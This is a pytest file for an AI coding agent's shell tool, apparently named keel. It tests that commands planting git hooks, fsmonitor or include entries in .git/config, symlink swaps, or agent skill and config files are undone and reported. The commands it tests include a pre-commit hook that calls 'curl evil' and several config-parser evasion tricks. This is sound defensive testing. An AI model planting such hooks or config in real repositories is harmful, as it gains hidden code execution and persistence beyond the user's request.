"""Files that run code later (git hooks and config, .keel/): a shell command's changes there are
undone after it and the model is told (keel.policy.runlater), on the Landlock tier and with no
OS sandbox at all. Each case runs the real command through run_shell in a real git repository.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from keel.policy import gitconfig
from keel.policy.sandbox import SandboxPolicy
from keel.tools.base import ToolContext, ToolResult
from keel.tools.shell import RunShellArgs, run_shell

TIERS = [pytest.param(SandboxPolicy(tier="landlock"), marks=pytest.mark.landlock, id="landlock"),
         pytest.param(SandboxPolicy(enabled=False), id="none")]
HOOK = "#!/bin/sh\necho the user's own hook\n"
UNDONE = "keel undid this command's changes to"


class _AllowAll:
    def authorize_shell(self, command: str) -> Any:
        return type("Outcome", (), {"allowed": True, "message": "", "decision": "allow", "network": False})()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null"}
    subprocess.run(["git", "init", "-q", str(ws)], check=True, env=env)
    (ws / ".git" / "hooks" / "post-checkout").write_text(HOOK)
    (ws / ".git" / "hooks" / "post-checkout").chmod(0o755)
    (ws / ".keel").mkdir()
    (ws / ".keel" / "config.toml").write_text("[verify]\naccept = ['pytest -q']\n")
    return ws


def shell(command: str, ws: Path, policy: SandboxPolicy) -> ToolResult:
    return run_shell(RunShellArgs(command=command), ToolContext(workspace=ws, approval=_AllowAll(), sandbox=policy))


@pytest.mark.parametrize("policy", TIERS)
def test_a_planted_hook_and_fsmonitor_are_undone_and_reported(repo: Path, policy: SandboxPolicy) -> None:
    config = (repo / ".git" / "config").read_bytes()
    result = shell("python3 -c \"open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil')\" && "
                   "chmod +x .git/hooks/pre-commit && printf '[core]\\n\\tfsmonitor = ./x.sh\\n' >> .git/config && "
                   "echo '#!/bin/sh' > .git/hooks/post-checkout && echo 'x = 1' >> .keel/config.toml && "
                   "mkdir -p .keel/skills/a && echo owned > .keel/skills/a/SKILL.md", repo, policy)
    assert result.ok, result.output
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "config").read_bytes() == config
    assert (repo / ".git" / "hooks" / "post-checkout").read_text() == HOOK
    assert os.access(repo / ".git" / "hooks" / "post-checkout", os.X_OK)
    assert "x = 1" not in (repo / ".keel" / "config.toml").read_text() and not (repo / ".keel" / "skills").exists()
    assert UNDONE in result.output and ".git/hooks/pre-commit" in result.output
    assert ".git/config (core.fsmonitor)" in result.output and ".keel/config.toml" in result.output
    assert subprocess.run(["git", "status", "--short"], cwd=repo, capture_output=True).returncode == 0


@pytest.mark.parametrize("policy", TIERS)
def test_ordinary_git_work_is_kept(repo: Path, policy: SandboxPolicy, tmp_path: Path) -> None:
    result = shell("git config user.name 'A Person' && git config user.email a@example.com && "
                   "git remote add origin https://example.com/r.git && echo x > f && git add f && "
                   "git commit -qm first && git branch -q feature", repo, policy)
    assert result.ok and UNDONE not in result.output, result.output
    assert "A Person" in (repo / ".git" / "config").read_text()
    assert "example.com/r.git" in (repo / ".git" / "config").read_text()
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    init = shell("git init -q && git config user.name B && echo y > g && git add g && "
                 "git -c user.email=b@x commit -qm one", fresh, policy)
    assert init.ok and UNDONE not in init.output, init.output
    assert (fresh / ".git" / "HEAD").exists() and (fresh / ".git" / "hooks" / "pre-commit.sample").exists()


@pytest.mark.parametrize("policy", TIERS)
def test_a_symlink_swapped_in_is_replaced_not_written_through(repo: Path, policy: SandboxPolicy,
                                                             tmp_path: Path) -> None:
    outside = repo / "elsewhere"           # in the workspace, so even the Landlock tier may make it
    result = shell("mkdir elsewhere && echo '#!/bin/sh' > elsewhere/pre-push && rm -rf .git/hooks && "
                   "ln -s ../elsewhere .git/hooks && ln -sf ../elsewhere/target .keel/config.toml", repo, policy)
    assert result.ok, result.output
    hooks = repo / ".git" / "hooks"
    assert hooks.is_dir() and not hooks.is_symlink() and (hooks / "post-checkout").read_text() == HOOK
    assert not (hooks / "pre-push").exists() and (outside / "pre-push").read_text() == "#!/bin/sh\n"
    assert not (outside / "post-checkout").exists() and not (outside / "target").exists()
    keel_config = repo / ".keel" / "config.toml"
    assert not keel_config.is_symlink() and "accept" in keel_config.read_text()


@pytest.mark.parametrize("policy", TIERS)
def test_git_pointed_elsewhere_is_removed(tmp_path: Path, policy: SandboxPolicy) -> None:
    ws = tmp_path / "plain"
    ws.mkdir()
    result = shell("mkdir -p evil/.git && printf 'gitdir: evil/.git\\n' > .git", ws, policy)
    assert result.ok and UNDONE in result.output and not (ws / ".git").exists(), result.output


def test_the_config_reader_refuses_what_it_cannot_be_sure_of() -> None:
    base = b"[core]\n\tbare = false\n"
    assert gitconfig.unsafe_changes(base, base + b"[user]\n\tname = x\n") == []
    assert gitconfig.unsafe_changes(base, base + b"[CORE]\n\tFsMonitor = x\n") == ["core.fsmonitor"]
    assert gitconfig.unsafe_changes(base, base + b'[filter "lfs"]\n\tclean = x\n') == ["filter.lfs.clean"]
    assert gitconfig.unsafe_changes(base, base + b"[include]\n\tpath = ../x\n") == ["include.path"]
    for trick in (b"[user] name = x\n[core] fsmonitor = y\n", b"[user]\n\tname = a\\\n\tfsmonitor = y\n",
                  b"\xef\xbb\xbf[core]\n\tfsmonitor = y\n"):
        assert gitconfig.unsafe_changes(base, base + trick) == ["lines keel cannot check"], trick
    assert gitconfig.unsafe_changes(b"", b"fsmonitor = y\n") == ["lines keel cannot check"]     # no section
